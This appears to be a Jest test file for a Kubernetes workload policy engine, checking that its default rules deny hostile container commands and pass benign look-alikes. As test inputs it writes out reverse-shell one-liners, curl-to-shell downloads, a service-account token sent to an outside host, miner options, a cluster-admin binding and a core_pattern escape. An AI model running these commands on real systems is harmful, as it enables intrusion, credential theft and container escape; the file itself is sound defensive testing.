/**
 * The behavioural rules end to end: real manifests through the workload layer's execution model
 * and the default profile's rules, one class of behaviour per block, each with the everyday jobs
 * that look like it. The rule tests next to each rule judge hand-built models; these check that
 * the model and the rules meet.
 */
import { describe, expect, it } from '@jest/globals';

import { assess, createEngine } from '../src/engine.js';
import { DEFAULT_POLICY } from '../src/policy/schema.js';
import type { Verdict } from '../src/policy/decision.js';
import { argv, cronJob, sh } from './support/workloads.js';
import type { Workload } from '../src/workload/types.js';

const engine = createEngine(DEFAULT_POLICY);
const NOW = new Date('2026-11-27T12:00:00Z');

function judge(workload: Workload): { verdict: Verdict; rules: string[] } {
  const result = assess(engine, workload.object, { now: NOW });
  if (result === undefined) throw new Error('no pod template');
  return {
    verdict: result.decision.verdict,
    rules: [...new Set(result.decision.findings.filter((f) => f.weight > 0).map((f) => f.rule))].sort(),
  };
}

const deny = (rule: string) => ({ verdict: 'deny', rules: expect.arrayContaining([rule]) as unknown });

describe('reverse shells: a socket joined to a shell', () => {
  it.each<[string, Workload]>([
    ['bash -i >& /dev/tcp', sh('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')],
    ['exec fd then sh on it', sh('exec 196<>/dev/tcp/198.51.100.7/443; sh <&196 >&196 2>&196')],
    [
      'mkfifo and nc',
      sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f'),
    ],
    [
      'nc -e given as args on an image',
      cronJob({
        containers: [{ name: 'c', image: 'busybox', args: ['nc', '198.51.100.7', '4444', '-e', '/bin/sh'] }],
      }),
    ],
    ['socat exec', argv('socat', 'tcp:198.51.100.7:4444', 'exec:/bin/sh,pty,stderr')],
  ])('%s is denied', (_name, workload) => {
    expect(judge(workload)).toMatchObject(deny('reverse-shell'));
  });

  it.each<[string, Workload]>([
    [
      'a /dev/tcp wait-for loop',
      sh('until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 2; done; psql -h db -c "select 1"'),
    ],
    ['nc -z in an until loop', sh('until nc -z db 5432; do echo waiting; sleep 1; done')],
  ])('%s stays quiet', (_name, workload) => {
    expect(judge(workload).rules).not.toEqual(expect.arrayContaining(['reverse-shell']));
    expect(judge(workload).rules).not.toEqual(expect.arrayContaining(['port-scan-loop']));
    expect(['allow', 'annotate']).toContain(judge(workload).verdict);
  });
});

describe('download and run, graded by the source', () => {
  it.each<[string, string]>([
    ['plain http from an address', 'curl -s http://198.51.100.23/x.sh | sh'],
    ['a decimal address', 'wget -qO- http://3325256727/x | bash'],
    [
      'a binary into a hidden path',
      'curl -fsSL https://cdn.example.org/a -o /usr/local/bin/.k; chmod +x /usr/local/bin/.k; /usr/local/bin/.k',
    ],
    ['an odd port', 'curl -fsSL https://cdn.example.org:8443/i.sh | sh'],
  ])('%s is denied', (_name, script) => {
    expect(judge(sh(script))).toMatchObject(deny('download-exec'));
  });

  it('an HTTPS installer from an unlisted domain warns', () => {
    const result = judge(sh('curl -fsSL https://tools.example.org/install.sh | bash'));
    expect(result.rules).toContain('download-exec-unverified');
    expect(result.verdict).toBe('warn');
  });

  it.each<[string, string]>([
    [
      'Helm’s documented installer',
      'curl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash',
    ],
    ['rustup', "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y"],
    [
      'a download that is only read',
      'curl -fsSL -o /tmp/data.csv https://data.example.org/d.csv && psql -c "\\copy t from /tmp/data.csv csv"',
    ],
  ])('%s is not warned', (_name, script) => {
    expect(['allow', 'annotate']).toContain(judge(sh(script)).verdict);
  });
});

describe('credentials go to their audience or are taken', () => {
  const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
  it('the token sent to another host is denied', () => {
    expect(judge(sh(`curl -s -d @${TOKEN} https://203.0.113.5/c`))).toMatchObject(
      deny('service-account-token-exfil'),
    );
  });

  it.each<[string, string]>([
    [
      'the in-cluster API call',
      `curl -s --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api/v1/namespaces/default/pods`,
    ],
    [
      'Vault’s Kubernetes login',
      `curl -s --request POST --data "{\\"jwt\\": \\"$(cat ${TOKEN})\\", \\"role\\": \\"app\\"}" https://vault.vault.svc:8200/v1/auth/kubernetes/login`,
    ],
  ])('%s is not denied', (_name, script) => {
    const result = judge(sh(script));
    expect(result.rules).not.toContain('service-account-token-exfil');
    expect(result.verdict).not.toBe('deny');
  });
});

describe('miners by option set', () => {
  it('a renamed miner with pool and wallet options is denied', () => {
    const workload = cronJob({
      containers: [
        {
          name: 'c',
          image: 'registry.k8s.io/pause:3.9',
          command: ['/pause'],
          args: ['-o', 'pool.example.net:3333', '-u', '44AFFq5kSiGBoZ', '--donate-level=1'],
        },
      ],
    });
    expect(judge(workload)).toMatchObject(deny('crypto-miner'));
  });

  it('a storage report with -o …pool… and --coin is not a miner', () => {
    expect(judge(argv('report', '-o', '/reports/pool-usage.csv', '--coin', 'btc')).rules).not.toContain(
      'crypto-miner',
    );
  });
});

describe('the Kubernetes API from inside the pod', () => {
  it('binding cluster-admin is denied', () => {
    expect(
      judge(
        sh(
          'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default',
        ),
      ),
    ).toMatchObject(deny('kube-api-escalation'));
  });

  it.each<[string, string]>([
    ['deleting failed pods', 'kubectl delete pods --field-selector=status.phase==Failed -n default'],
    ['a rollout restart', 'kubectl rollout restart deployment/web'],
  ])('%s stays quiet', (_name, script) => {
    const result = judge(sh(script));
    expect(result.rules).not.toContain('kube-api-escalation');
    expect(result.rules).not.toContain('kube-secrets-read');
  });
});

describe('escapes', () => {
  it('writing core_pattern is denied', () => {
    expect(judge(sh("echo '|/tmp/x' > /proc/sys/kernel/core_pattern"))).toMatchObject(
      deny('host-escape-write'),
    );
  });

  it('raising vm.max_map_count is not an escape', () => {
    expect(judge(sh('sysctl -w vm.max_map_count=262144')).rules).not.toContain('host-escape-write');
  });
});

describe('fail closed when the analysis is cut short', () => {
  it('a payload behind many nested sh -c is denied by analysis-incomplete', () => {
    let script = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
    for (let k = 0; k < 12; k++) script = `sh -c ${JSON.stringify(script)}`;
    const result = judge(sh(script));
    expect(result.verdict).toBe('deny');
    expect(result.rules.some((rule) => rule === 'analysis-incomplete' || rule === 'reverse-shell')).toBe(
      true,
    );
  });

  it('an everyday script reaches no limit', () => {
    expect(
      judge(sh('set -e; for t in a b c; do pg_dump -t "$t" app > "/backup/$t.sql"; done')).rules,
    ).not.toContain('analysis-incomplete');
  });
});
